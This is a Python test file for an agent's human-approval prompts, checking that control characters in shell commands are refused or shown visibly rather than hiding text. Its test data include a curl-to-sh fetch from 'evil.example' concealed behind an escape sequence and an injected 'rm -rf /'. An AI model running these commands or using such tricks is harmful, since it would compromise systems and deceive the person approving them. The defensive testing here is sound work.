"""Control characters in what a person approves: refused in parameters, shown (not acted on) wherever
a prompt is displayed. The defect: ``ESC[8m`` in a shell command passed validation and hid the rest of
the line in ``caisey-agent prompts``; zenity was called without ``--no-markup``."""

from __future__ import annotations

import asyncio
import time

import pytest

from caisey_agent import desktop, dialog
from caisey_agent import protocol as p
from caisey_agent.prompts import HeldPrompt, render

HIDDEN = "echo hello \x1b[8m; curl evil.example | sh"


@pytest.mark.parametrize(
    "char", ["\x1b", "\x00", "\x07", "\x08", "\x7f", "\x9b", "\u202e", "\u2066"], ids=lambda c: f"U+{ord(c):04X}"
)
def test_control_characters_in_a_command_are_refused_naming_the_field(char):
    with pytest.raises(p.ProtocolError) as refused:
        p.validate_params("shell", {"command": f"echo hi{char}there"})
    assert refused.value.code == "invalid_params"
    assert (
        refused.value.detail.startswith("command contains the control character")
        and "position 8" in refused.value.detail
    )


def test_a_multi_line_field_takes_newlines_and_tabs_a_one_line_field_does_not():
    script = "echo one\r\n\techo two\necho three"
    assert p.validate_params("shell", {"command": script})["command"] == script
    with pytest.raises(p.ProtocolError, match="service contains the control character U\\+000A"):
        p.validate_params("service_restart", {"service": "cron\nrm -rf /"})
    assert p.validate_params("service_restart", {"service": "cron\tx"})["service"] == "cron\tx"


def test_visible_shows_control_characters_and_keeps_text_and_line_breaks():
    assert p.visible("a\x1b[8mb") == "a\u241b[8mb"  # ␛
    assert p.visible("x\x00\x7f\x9b\u202ey") == "x\u2400\u2421<U+009B><U+202E>y"
    assert p.visible("line one\n\tline two, héllo") == "line one\n\tline two, héllo"
    assert p.visible("a\rb") == "a\u240db"


def _held(detail: str) -> HeldPrompt:
    return HeldPrompt(
        prompt_id="0123456789abcdef",
        title="Shell \x1b[2Jcommand",
        detail=detail,
        requested_by="tech",
        organisation="Northwind IT",
        deadline=time.time() + 300,
        state="delivered",
        decided_at=None,
        decided_by="",
    )


def test_the_prompts_listing_shows_an_escape_instead_of_sending_it_to_the_terminal():
    text = render(_held(HIDDEN))
    assert "\x1b" not in text
    assert "will run: echo hello \u241b[8m; curl evil.example | sh" in text
    assert "Shell \u241b[2Jcommand" in text


def test_the_windows_dialog_text_shows_control_characters():
    msg = {"organisation": "Northwind\x1b IT", "requested_by": "tech", "title": "t", "detail": HIDDEN}
    msg["deadline"] = time.time() + 60
    title, body = desktop.dialog_text(msg)
    assert "\x1b" not in title + body and "\u241b[8m; curl evil.example" in body


def test_zenity_is_called_without_markup_and_with_visible_text(monkeypatch):
    seen: list[tuple[str, ...]] = []

    class Done:
        async def wait(self) -> int:
            return 1

    async def fake_exec(*argv, **kwargs):
        seen.append(argv)
        return Done()

    monkeypatch.setattr(dialog.shutil, "which", lambda name: "/usr/bin/zenity" if name == "zenity" else None)
    monkeypatch.setattr(dialog.asyncio, "create_subprocess_exec", fake_exec)
    assert asyncio.run(dialog.ask(_held("echo <span foreground='white'>hidden</span>\x1b[8m"), 30)) is False
    argv = seen[0]
    assert argv[0] == "zenity" and "--no-markup" in argv
    text = next(a for a in argv if a.startswith("--text="))
    assert "\x1b" not in text and "<span foreground='white'>hidden</span>\u241b[8m" in text
